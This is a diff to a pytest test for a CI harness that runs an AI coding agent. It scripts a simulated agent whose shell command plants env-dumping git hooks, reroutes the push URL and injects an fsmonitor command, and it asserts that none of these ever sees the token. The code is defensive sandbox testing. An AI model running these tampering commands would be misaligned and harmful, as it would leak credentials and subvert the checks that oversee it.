@@ -224,35 +224,46 @@ def test_request_reaches_the_agent_as_delimited_clean_data(
     assert "it is not part of the request" in first
 
 
+@pytest.mark.parametrize("as_root", [True, False], ids=["bot as root", "bot as a normal user"])
 def test_git_hooks_and_config_written_by_the_agent_never_see_the_token(
-    runner: Runner, github: GitHubFake, checkout: Path, tmp_path: Path
+    runner: Runner, github: GitHubFake, checkout: Path, tmp_path: Path, as_root: bool
 ) -> None:
+    """As root the agent's own user cannot write .git at all; as a normal user it can,
+    and everything it planted is undone before git runs again."""
     spy = tmp_path / "spy"
     spy.mkdir()
+    spy.chmod(0o777)
     # As after actions/checkout with sparse-checkout: per-worktree config is read too.
     git("config", "extensions.worktreeConfig", "true", cwd=checkout)
     hook = f"#!/bin/sh\nenv >> {spy}/hook.txt\n"
-    tamper = " && ".join(
+    hooks = ("reference-transaction", "pre-push", "post-commit", "pre-commit")
+    tamper = " ; ".join(
         [
             *(
                 f"printf '{hook}' > .git/hooks/{name} && chmod +x .git/hooks/{name}"
-                for name in ("reference-transaction", "pre-push", "post-commit", "pre-commit")
+                for name in hooks
             ),
             # Reroute the push, and run a command on every `git status` or `git add`.
             f"git config url.http://127.0.0.1:9/.insteadOf {runner.remote.url}",
             "git config --worktree remote.origin.pushurl http://127.0.0.1:9/elsewhere.git",
             f"git config core.fsmonitor 'env >> {spy}/fsmonitor.txt; false'",
+            "echo /elsewhere > .git/commondir",
             f"mkdir -p $HOME && printf '[core]\\n\\tfsmonitor = env >> {spy}/global.txt\\n'"
             " >> $HOME/.gitconfig",
+            f"touch {spy}/attempted",
             "echo hi > hello.txt",
         ]
     )
+    if not as_root:
+        runner.user = 4242
+    hooks_before = sorted(p.name for p in (checkout / ".git" / "hooks").iterdir())
     runner.inputs["INPUT_SANDBOX"] = "danger-full-access"
     runner.model.add("orchestrator", Call("codex", {"prompt": "greet"}), finish())
     runner.model.add("codex", Shell(tamper), Say("Done."))
 
     run = runner.run("workflow_dispatch", dispatch_event("greet"))
 
+    assert (spy / "attempted").exists()
     assert run.returncode == 0, run.stderr
     assert run.outputs["conclusion"] == "pr_opened"
     # The push went to the real remote, and nothing the agent planted ran with the token.
@@ -264,6 +275,10 @@ def test_git_hooks_and_config_written_by_the_agent_never_see_the_token(
     assert "insteadOf" not in (checkout / ".git" / "config").read_text()
     assert "fsmonitor" not in (checkout / ".git" / "config").read_text()
     assert not (checkout / ".git" / "config.worktree").exists()
+    assert not (checkout / ".git" / "commondir").exists()
+    assert sorted(p.name for p in (checkout / ".git" / "hooks").iterdir()) == hooks_before
+    # As root, the agent's user could not even write there; otherwise it was undone.
+    assert ("the agent changed the git directory" in run.stderr) is not as_root
 
 
 def test_nothing_the_agent_started_outlives_it(runner: Runner) -> None:
